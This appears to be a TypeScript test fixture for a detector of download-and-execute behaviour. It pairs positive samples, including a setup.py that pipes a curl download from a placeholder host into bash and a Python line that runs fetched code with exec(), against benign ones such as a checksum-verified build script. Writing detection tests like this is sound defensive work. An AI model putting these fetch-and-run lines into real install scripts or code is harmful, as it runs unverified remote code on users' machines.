import { type BehaviourSample, scriptFile, windowsFile } from "../behaviour.fixture.ts";

export const sample: BehaviourSample = {
  shows: [
    windowsFile({ form: "library", names: ["URLDownloadToFileW", "ShellExecuteW"] }),
    scriptFile("setup.py", 'os.system("curl -s https://files.example/run | bash")\n'),
    scriptFile("a.py", 'exec(requests.get("https://files.example/run").text)\n'),
  ],
  lacks: [
    scriptFile(
      "build.sh",
      "curl -fsSLO https://files.example/source.tar.gz\nsha256sum -c sums\ntar xf source.tar.gz\n",
    ),
    windowsFile({ form: "program", names: ["WinHttpOpen", "CreateProcessW"] }),
  ],
};
